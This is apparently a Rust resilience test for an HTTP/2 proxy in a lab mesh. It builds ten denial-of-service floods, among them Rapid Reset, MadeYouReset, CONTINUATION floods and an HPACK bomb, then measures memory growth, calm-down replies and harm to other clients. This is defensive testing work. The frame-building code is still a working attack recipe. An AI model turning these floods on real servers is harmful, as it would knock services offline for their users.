//! Clients of HTTP/2 that flood a proxy: whether they are stopped, what they make it keep, and what
//! everyone else notices.

use std::collections::BTreeSet;
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use isthmus_lab::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, GOAWAY, HEADERS, PING,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
};
use isthmus_lab::http;
use isthmus_lab::mesh::Mesh;
use isthmus_lab::processes::Process;
use isthmus_lab::trouble::{During, Result, trouble};

use super::beside::{CALLER, Others};
use super::{AUTHORITY, Arguments, Point, on_quiet_mesh, whole};

const HOST: &str = "payment.shop.mesh";

/// What all floods together may leave a proxy with.
const MEMORY: u64 = 32 << 20;
/// Frames that are written at once.
const BATCH: u32 = 100;
/// For what a proxy says last to be read.
const FAREWELL: Duration = Duration::from_secs(5);

/// Connections whose replies get no credit, and requests on each.
const STALLED: (usize, u32) = (20, 100);

/// What is said first on a connection, and then again and again, told the number of the round.
struct Flood {
    name: &'static str,
    first: fn() -> Vec<u8>,
    then: fn(u32) -> Vec<u8>,
}

const FLOODS: [Flood; 10] = [
    Flood {
        name: "cancelled requests (CVE-2023-44487)",
        first: Vec::new,
        then: |round| {
            let reset = frame(RST_STREAM, 0, odd(round), &8_u32.to_be_bytes());
            [get(odd(round)), reset].concat()
        },
    },
    Flood {
        name: "requests that make the proxy cancel (CVE-2025-8671)",
        first: Vec::new,
        then: |round| {
            let too_much = 0x7fff_ffff_u32.to_be_bytes();
            let grant = frame(WINDOW_UPDATE, 0, odd(round), &too_much);
            [post(odd(round)), grant].concat()
        },
    },
    Flood {
        name: "heads that never end (CVE-2024-27316)",
        first: || frame(HEADERS, 0, 1, &head("GET")),
        then: |_| {
            frame(
                CONTINUATION,
                0,
                1,
                &frames::section([(&b"a"[..], &b""[..])]),
            )
        },
    },
    Flood {
        name: "heads of tiny fields",
        first: || frame(HEADERS, 0, 1, &head("GET")),
        then: |_| frame(CONTINUATION, 0, 1, &[0, 1, b'a', 0].repeat(4000)),
    },
    Flood {
        name: "heads that unpack to 8 MB",
        first: Vec::new,
        then: |round| frame(HEADERS, END_HEADERS | END_STREAM, odd(round), &bomb()),
    },
    Flood {
        name: "requests that never end",
        first: Vec::new,
        then: |round| post(odd(round)),
    },
    Flood {
        name: "empty data",
        first: || post(1),
        then: |_| frame(DATA, 0, 1, &[]),
    },
    Flood {
        name: "settings",
        first: Vec::new,
        then: |_| frame(SETTINGS, 0, 0, &[]),
    },
    Flood {
        name: "pings",
        first: Vec::new,
        then: |_| frame(PING, 0, 0, &[7; 8]),
    },
    Flood {
        name: "grants of a byte",
        first: Vec::new,
        then: |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    },
];

/// Streams of a client have odd numbers.
fn odd(round: u32) -> u32 {
    2 * round + 1
}

fn head(method: &str) -> Vec<u8> {
    request(method, "/")
}

fn request(method: &str, path: &str) -> Vec<u8> {
    let fields = [
        (":method", method),
        (":scheme", "http"),
        (":path", path),
        (":authority", HOST),
    ];
    frames::section(fields.map(|(name, value)| (name.as_bytes(), value.as_bytes())))
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET"))
}

/// A request whose body is still to come.
fn post(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &head("POST"))
}

/// A field of 4,000 bytes goes into the table once and is repeated at a byte each.
fn bomb() -> Vec<u8> {
    let mut section = head("GET");
    let value = frames::section([(&b"x"[..], &[b'y'; 4000][..])]);
    // The same literal, but one that the table keeps, as its first entry.
    section.push(0x40);
    section.extend_from_slice(&value[1..]);
    section.extend([0xbe; 2000]);
    section
}

pub(crate) fn abuse(_: &Arguments) -> Result<Vec<Point>> {
    on_quiet_mesh(|mesh| {
        whole(mesh)?;
        let target = Target {
            proxy: mesh.process(AUTHORITY, CALLER)?,
            caller: mesh.outbound(AUTHORITY, CALLER)?,
            others: Others::of(mesh)?,
        };
        let before = target.proxy.resident()?;
        let mut points = Vec::new();
        for flood in &FLOODS {
            points.extend(target.endure(flood)?);
        }
        let grown = target.proxy.resident()?.saturating_sub(before);
        points.push(Point {
            held: grown <= MEMORY,
            what: "memory that all floods leave the proxy with".to_owned(),
            measured: format!("{} KiB", grown >> 10),
            bound: format!("at most {} KiB", MEMORY >> 10),
        });
        points.push(target.stall(mesh).unwrap_or_else(|trouble| Point {
            held: false,
            what: "replies without credit".to_owned(),
            measured: trouble.to_string(),
            bound: "their heads come".to_owned(),
        }));
        Ok(points)
    })
}

/// Whom it hits.
struct Target {
    proxy: Process,
    caller: SocketAddr,
    others: Others,
}

impl Target {
    fn endure(&self, flood: &Flood) -> Result<Vec<Point>> {
        let ended = Ended::default();
        let noticed = self.others.compare(|stop| self.pour(flood, stop, &ended))?;
        let beside = format!("beside {}", flood.name);
        let [failed, slow] = noticed.points(&beside);
        let (all, told) = (ended.all.into_inner(), ended.told.into_inner());
        let untold = format!("connections that were not told to calm down {beside}");
        Ok(vec![failed, slow, Point::none(untold, all - told, all)])
    }

    /// Connection after connection, each until it is ended.
    fn pour(&self, flood: &Flood, stop: &AtomicBool, ended: &Ended) {
        while !stop.load(Ordering::Relaxed) {
            // A connection that is refused is none.
            let Ok(stream) = http::connect(self.caller) else {
                continue;
            };
            if let Some(told) = pour_into(stream, flood, stop) {
                ended.all.fetch_add(1, Ordering::Relaxed);
                ended.told.fetch_add(usize::from(told), Ordering::Relaxed);
            }
        }
    }

    /// Replies that wait for credit that never comes.
    fn stall(&self, mesh: &Mesh) -> Result<Point> {
        whole(mesh)?;
        let before = self.proxy.resident()?;
        let (connections, each) = STALLED;
        let mut open = Vec::new();
        for _ in 0..connections {
            let mut stream = http::connect(self.caller)?;
            // SETTINGS_INITIAL_WINDOW_SIZE.
            let mut said = frames::hello(&[(4, 0)]);
            for round in 0..each {
                let section = request("GET", "/bytes/5000000");
                said.extend(frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    odd(round),
                    &section,
                ));
            }
            stream.write_all(&said).during(|| "requests".to_owned())?;
            open.push(stream);
        }
        for stream in &mut open {
            hear_heads(stream, each)?;
        }
        let grown = self.proxy.resident()?.saturating_sub(before);
        let streams = u64::try_from(connections).unwrap_or(1) * u64::from(each);
        // They share the credit of the process: the more there are, the less has each.
        Ok(Point {
            held: true,
            what: format!("memory of the proxy for each of {streams} replies without credit"),
            measured: format!("{} B", grown / streams),
            bound: "for comparison".to_owned(),
        })
    }
}

#[derive(Default)]
struct Ended {
    all: AtomicUsize,
    told: AtomicUsize,
}

/// Was the client told to calm down? `None`: it has stopped by itself.
fn pour_into(mut stream: TcpStream, flood: &Flood, stop: &AtomicBool) -> Option<bool> {
    let _ = stream.set_write_timeout(Some(FAREWELL));
    let _ = stream.set_read_timeout(Some(FAREWELL));
    let first = [frames::hello(&[]), (flood.first)()].concat();
    let mut said = stream.write_all(&first);
    let mut round = 0;
    while said.is_ok() {
        if stop.load(Ordering::Relaxed) {
            return None;
        }
        let next: Vec<u8> = (round..round + BATCH).flat_map(flood.then).collect();
        round += BATCH;
        said = stream.write_all(&next);
    }
    while let Ok(Some(frame)) = frames::read(&mut stream) {
        // It may have been asked before to open another connection.
        if frame.kind == GOAWAY && frame.number(4) == Some(ENHANCE_YOUR_CALM) {
            return Some(true);
        }
    }
    Some(false)
}

/// Waits for the head of every reply. A reply that nobody reads may be given up, but not before.
fn hear_heads(stream: &mut TcpStream, count: u32) -> Result<()> {
    let mut heard = BTreeSet::new();
    let all = usize::try_from(count).unwrap_or(usize::MAX);
    while heard.len() < all {
        let heads = heard.len();
        match frames::read(stream).during(|| format!("reply {heads} without credit"))? {
            Some(frame) if frame.kind == RST_STREAM && !heard.contains(&frame.stream) => {
                return trouble(format!("a reply without credit was reset: {frame:?}"));
            }
            Some(frame) if frame.kind == HEADERS => {
                heard.insert(frame.stream);
            }
            Some(_) => {}
            None => return trouble("a connection without credit was closed"),
        }
    }
    Ok(())
}
